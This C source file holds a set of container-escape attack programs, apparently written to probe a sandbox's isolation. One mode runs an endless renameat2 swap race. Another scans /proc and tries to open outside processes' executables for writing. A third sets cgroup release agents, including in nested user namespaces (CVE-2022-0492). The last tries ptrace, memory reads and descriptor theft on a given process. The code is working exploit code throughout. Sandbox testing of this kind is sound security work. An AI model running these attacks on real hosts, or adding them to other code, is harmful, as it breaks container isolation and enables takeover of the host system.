/* Programs that attack from inside a container; static.
 *
 *   attacks swap A B     exchange two names without end (renameat2(2), RENAME_EXCHANGE)
 *   attacks overwrite    look for processes that come from outside and try to open their program for writing; says "ready", then
 *                        "met COMMAND ERROR" for each whose program the kernel doesn't show, "seen NAME ERROR" (or
 *                        "WRITABLE") for each program of another file system, "WROTE NAME" when one could be opened
 *   attacks agent FILE   set FILE as release agent of control groups, and again in new namespaces where it is root (CVE-2022-0492);
 *                        says "here"/"nested mounted KIND" or the error, "nested entered" or the error, "SET PATH" for each success
 *   attacks read-pid N   try to trace, and to read memory, root and descriptors of process N
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void swap(const char *a, const char *b) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
}

/* A process whose program can't be opened: a zombie (ENOENT, and it has no memory), or one that came with more rights. */
static void met(const char *pid, int error) {
    static char told[64][64];
    static int count;
    char path[300], command[32] = {0}, line[64];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    ssize_t size = read(fd, command, sizeof command - 1);
    close(fd);
    if (size <= 0) return;
    command[strcspn(command, "\n")] = 0;
    snprintf(line, sizeof line, "met %s %s", command, strerrorname_np(error));
    for (int i = 0; i < count; i++)
        if (!strcmp(told[i], line)) return;
    if (count == 64) return;
    strcpy(told[count++], line);
    puts(line);
}

static void overwrite(void) {
    static char seen[64][256];
    int count = 0;
    struct stat own;
    stat("/proc/self/exe", &own);
    puts("ready");
    for (;;) {
        DIR *all = opendir("/proc");
        struct dirent *entry;
        while ((entry = readdir(all))) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
            char path[300], name[256] = {0}, again[64];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_PATH);
            if (fd < 0) {
                met(entry->d_name, errno);
                continue;
            }
            struct stat status;
            fstat(fd, &status);
            snprintf(again, sizeof again, "/proc/self/fd/%d", fd); /* the process may run something else by now */
            if (readlink(again, name, sizeof name - 1) > 0 && status.st_dev != own.st_dev) {
                int known = 0;
                for (int i = 0; i < count; i++) known |= !strcmp(seen[i], name);
                if (!known && count < 64) {
                    strcpy(seen[count++], name);
                    /* While it runs anywhere, opening it gives ETXTBSY; access(2) tells what comes after that. */
                    printf("seen %s %s\n", name, access(again, W_OK) ? strerrorname_np(errno) : "WRITABLE");
                }
                for (int attempt = 0; attempt < 200; attempt++) {
                    int writable = open(again, O_WRONLY);
                    if (writable < 0) continue;
                    printf("WROTE %s\n", name);
                    close(writable);
                    break;
                }
            }
            close(fd);
        }
        closedir(all);
    }
}

static void set_agent(const char *file, const char *agent) {
    int fd = open(file, O_WRONLY | O_TRUNC);
    if (fd < 0) return;
    if (write(fd, agent, strlen(agent)) > 0) printf("SET %s\n", file);
    close(fd);
}

static void put(const char *file, const char *text) {
    int fd = open(file, O_WRONLY);
    if (fd < 0) return;
    if (write(fd, text, strlen(text)) < 0) printf("put %s %s\n", file, strerrorname_np(errno));
    close(fd);
}

static void attack_groups(const char *where, const char *agent) {
    static const char *const kinds[] = {"memory", "rdma", "pids", "cpuset", "freezer", "misc"};
    char path[300];
    mkdir("/groups", 0755);
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        if (mount("none", "/groups", "cgroup", 0, kinds[i])) {
            printf("%s mount %s %s\n", where, kinds[i], strerrorname_np(errno));
            continue;
        }
        printf("%s mounted %s\n", where, kinds[i]);
        set_agent("/groups/release_agent", agent);
        mkdir("/groups/x", 0755);
        put("/groups/x/notify_on_release", "1");
        if (fork() == 0) {
            put("/groups/x/cgroup.procs", "0");
            _exit(0);
        }
        wait(NULL);
        rmdir("/groups/x");
        umount("/groups");
    }
    DIR *all = opendir("/sys/fs/cgroup");
    struct dirent *entry;
    while (all && (entry = readdir(all))) {
        snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", entry->d_name);
        set_agent(path, agent);
    }
    if (all) closedir(all);
}

static void agent(const char *file) {
    attack_groups("here", file);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) {
        printf("nested %s\n", strerrorname_np(errno));
        return;
    }
    put("/proc/self/setgroups", "deny");
    put("/proc/self/uid_map", "0 0 1");
    put("/proc/self/gid_map", "0 0 1");
    puts("nested entered");
    attack_groups("nested", file);
}

static void report(const char *what, long result) { printf("%s %s\n", what, result >= 0 ? "WORKED" : strerrorname_np(errno)); }

static int read_pid(const char *pid) {
    static const char *const names[] = {"root/etc", "cwd/.", "fd/0", "mem", "environ", "maps", "exe", "ns/mnt", "syscall", "stack"};
    long number = atol(pid);
    char buffer[64], path[128];
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, names[i]);
        int fd = open(path, O_RDONLY);
        report(names[i], fd < 0 ? -1 : strchr(names[i], '.') || strchr(names[i], '/') ? fd : read(fd, buffer, 1));
    }
    struct iovec here = {buffer, 8}, there = {(void *)0x400000, 8};
    report("process_vm_readv", syscall(SYS_process_vm_readv, number, &here, 1L, &there, 1L, 0L));
    report("ptrace", ptrace(PTRACE_SEIZE, number, 0, 0));
    report("pidfd_getfd", syscall(438, syscall(434, number, 0), 0, 0));
    report("signal", syscall(SYS_kill, number, 0) == 0 && getuid() ? 0 : -1);
    return 0;
}

int main(int count, char **words) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (count == 4 && !strcmp(words[1], "swap")) swap(words[2], words[3]);
    if (count == 2 && !strcmp(words[1], "overwrite")) overwrite();
    if (count == 3 && !strcmp(words[1], "agent")) { agent(words[2]); puts("done"); return 0; }
    if (count == 3 && !strcmp(words[1], "read-pid")) return read_pid(words[2]);
    return 2;
}
